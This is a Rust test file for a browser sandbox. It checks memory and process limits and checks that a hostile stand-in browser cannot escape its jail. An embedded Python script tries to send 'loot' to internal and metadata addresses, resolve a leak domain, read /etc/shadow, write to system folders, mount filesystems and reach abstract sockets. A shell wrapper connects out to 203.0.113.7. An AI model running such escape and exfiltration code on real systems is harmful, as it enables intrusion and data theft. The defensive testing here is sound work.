//! A browser that is ended, or that is no browser any more: its task fails and says why, nobody is reached, and the next task has another.

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;

use abide_tests::bare;
use abide_tests::hostile::{self, Aim};
use abide_tests::namespace;
use abide_tests::victim::Victims;
use serde_json::{Value as Json, json};

use super::{house_on, steps};
use crate::bundles::House;
use crate::egress::{Server, data, digest};
use crate::web::blob;
use crate::worker::guest;

/// A page that holds 192 MiB, and what each process of the browser shows of it.
const HEAVY: &str = "<title>T</title><h1>light</h1><script>let word = 'heavy'; try { window.held = new Uint8Array(192 << 20).fill(7) } catch (error) { word = String(error) } document.querySelector('h1').textContent = word</script>";
/// One that holds nothing, on the same server.
const STEPS: [&str; 2] = ["find h1", "text"];

fn serving(page: &str) -> Server {
    Server::saying(format!("HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n\r\n{page}"))
}

fn house(server: &Server, worker: &str, host: &[(&str, &str)]) -> House {
    let origin = server.origin();
    let rules = json!([{"allow": "fetch", "origin": origin, "paths": ["/**"], "networks": ["127.0.0.1/32"]}]);
    house_on(worker, &[origin], &rules, &json!([]), host, &[])
}

#[test]
fn with_more_memory_than_it_may() {
    let Some(hostile) = guest("hostile-browse").filter(|_| bare::is_there()) else { return };
    let server = serving(HEAVY);
    let host = [
        ("  memory_bytes_max: 4294967296\n", "  memory_bytes_max: 1048576000\n"),
        ("otherwise: static", "otherwise: refuse"),
    ];
    let house = house(&server, &digest(&hostile), &host);
    let open = format!("open {}/heavy", server.origin());
    let asked: Vec<&str> = std::iter::repeat_n(&*open, 8).chain(STEPS).collect();
    let (_, lines) = steps(&house, &hostile, &asked);
    let said = lines.join("\n");
    assert!(lines[0].starts_with("open: "), "{said}");
    assert!(said.contains("its processes held more than 1000 MiB [AB0862]"), "{said}");
    assert!(lines.last().unwrap().contains("AB0862"), "nothing is asked of it afterwards: {said}");
    // What was seen until then is kept, and the next task has a browser of its own.
    assert!(data(&house, "EgressUsed").pop().unwrap()["pages"]["album"].is_string());
    let (_, lines) = steps(&house, &hostile, &[&open, "find h1"]);
    assert!(lines[1].ends_with("heavy"), "{lines:?}");
    house.world.ab(&["verify"]).exits(0);
}

#[test]
fn with_more_processes_than_it_may() {
    let Some(hostile) = guest("hostile-browse").filter(|_| bare::is_there()) else { return };
    let server = serving(HEAVY);
    let host = [("processes_max: 512", "processes_max: 12"), ("otherwise: static", "otherwise: refuse")];
    let house = house(&server, &digest(&hostile), &host);
    let (_, lines) = steps(&house, &hostile, &[&format!("open {}/heavy", server.origin())]);
    assert!(lines[0].contains("it started more than 12 processes and threads [AB0862]"), "{lines:?}");
}

/// What a browser does that a page has taken over: whatever can be done from inside of its jail. It says how many of its tries went well.
const TURNED: &str = r#"#!/usr/bin/python3
import ctypes, os, socket, sys
wins = []
def attempt(name, act):
    try:
        act()
        wins.append(name)
    except BaseException:
        pass
def tcp(host, port):
    with socket.create_connection((host, port), timeout=0.5) as line:
        line.sendall(b"GET /loot HTTP/1.0\r\n\r\n")
def udp(host, port):
    kind = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(kind, socket.SOCK_DGRAM) as line:
        line.sendto(b"loot", (host, port))
def own(host):
    # The jail's own loopback is its own: what is sent there reaches nobody outside.
    return host.startswith("127.") or host == "::1"
for host in ["127.0.0.1", "::1", "10.0.0.1", "169.254.169.254", "192.168.1.1", "203.0.113.7", "fd00:ec2::254"]:
    for port in PORTS_TCP:
        attempt(f"tcp {host}:{port}", lambda: tcp(host, port))
    for port in PORTS_UDP:
        if not own(host):
            attempt(f"udp {host}:{port}", lambda: udp(host, port))
        else:
            try: udp(host, port)
            except OSError: pass
attempt("name", lambda: socket.getaddrinfo("loot.leak.example", 80))
attempt("canary", lambda: open("CANARY").read())
attempt("shadow", lambda: open("/etc/shadow").read())
# Its own folder may have a file of that name; whether it is the one outside is seen there.
try: open("CANARY", "a").write("x")
except OSError: pass
attempt("usr", lambda: open("/usr/lib/loot", "w"))
# Its parent is the first process of its world, which hears no such signal: if it did, nothing would be said below.
try: os.kill(os.getppid(), 9)
except OSError: pass
attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("owner", lambda: os.chown(sys.argv[0], 65534, 65534))
attempt("mount", lambda: ctypes.CDLL(None, use_errno=True).mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0 or 1 / 0)
rights = [line for line in open("/proc/self/status") if line.startswith(("Uid", "Cap", "NoNew", "Seccomp"))]
def abstract():
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\0ABSTRACT")
attempt("abstract", abstract)
print(f"went well: {len(wins)} {wins} {rights}", file=sys.stderr, flush=True)
# Then it says what no browser says.
os.write(4, b"{\"id\": 1, \"result\": 7}\0" + b"x" * 1000 + b"\0")
"#;

/// A program in `folder`, in the place of the browser; the lines of the policy that name it and show it to the jail.
fn program(folder: &Path, text: &str) -> (String, String) {
    let path = folder.join("browser");
    std::fs::write(&path, text).unwrap();
    for path in [folder, &path] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    (format!("program: {}", path.display()), format!("    - /usr\n    - {}\n", folder.display()))
}

#[test]
fn taken_over_by_a_page() {
    namespace::within("browse::ended::taken_over_by_a_page", || {
        let Some(hostile) = guest("hostile-browse") else { return };
        let canary = tempfile::NamedTempFile::new().unwrap();
        let victims = Victims::everywhere(&Aim::TCP, &Aim::UDP, hostile::names());
        let name = format!("abide-tests-{}", std::process::id());
        let address = SocketAddr::from_abstract_name(&name).unwrap();
        let listener = UnixListener::bind_addr(&address).unwrap();
        listener.set_nonblocking(true).unwrap();
        let folder = tempfile::tempdir_in("/var/tmp").unwrap();
        let text = TURNED
            .replace("PORTS_TCP", "[80, 443, 8081, 8082]")
            .replace("PORTS_UDP", &format!("{:?}", Aim::UDP))
            .replace("CANARY", canary.path().to_str().unwrap())
            .replace("ABSTRACT", &name);
        let (program, shown) = program(folder.path(), &text);
        let server = serving(HEAVY);
        let host = [
            ("program: /usr/lib/chromium/chromium", &*program),
            ("    - /usr\n", &*shown),
            ("otherwise: static", "otherwise: refuse"),
        ];
        let house = house(&server, &digest(&hostile), &host);
        victims.take();
        let (_, lines) = steps(&house, &hostile, &[&format!("open {}/page", server.origin())]);
        assert!(lines[0].contains("went well: 0 []"), "{lines:?}");
        assert!(lines[0].contains("it tried to "), "{lines:?}");
        let hits = victims.take();
        assert!(hits.is_empty(), "{hits:?}");
        assert_eq!(std::fs::read(canary.path()).unwrap(), b"");
        assert!(listener.accept().is_err(), "somebody came out through an abstract socket");
        assert_eq!(server.lines(), Vec::<String>::new());
        house.world.ab(&["verify"]).exits(0);
    });
}

/// A browser that goes on showing pages, and beside them does what it is not asked to.
#[test]
fn that_tries_to_get_out_beside_its_pages() {
    let Some(hostile) = guest("hostile-browse").filter(|_| bare::is_there()) else { return };
    let folder = tempfile::tempdir_in("/var/tmp").unwrap();
    let text = "#!/bin/sh\n/usr/bin/python3 -c 'import socket; socket.create_connection((\"203.0.113.7\", 443), timeout=1)' 2>/dev/null\nexec /usr/lib/chromium/chromium \"$@\"\n";
    let (program, shown) = program(folder.path(), text);
    let server = serving("<title>T</title><h1>here</h1>");
    let host = [("program: /usr/lib/chromium/chromium", &*program), ("    - /usr\n", &*shown)];
    let house = house(&server, &digest(&hostile), &host);
    let (_, lines) =
        steps(&house, &hostile, &[&format!("open {}/page", server.origin()), "find h1", "snapshot"]);
    assert!(lines[1].ends_with("here"), "{lines:?}");
    let pages = data(&house, "EgressUsed").pop().unwrap()["pages"].clone();
    let album: Json = serde_json::from_slice(&blob(&house, &pages["album"])).unwrap();
    let why: Vec<&str> =
        album["vain"].as_array().unwrap().iter().filter_map(|row| row[0]["why"].as_str()).collect();
    assert!(
        why.iter().any(|why| why.contains("tried to reach 203.0.113.7:443") && why.contains("AB0869")),
        "{why:?}"
    );
    // What every browser does is none of it.
    assert_eq!(why.iter().filter(|why| why.contains("AB0869")).count(), 1, "{why:?}");
}
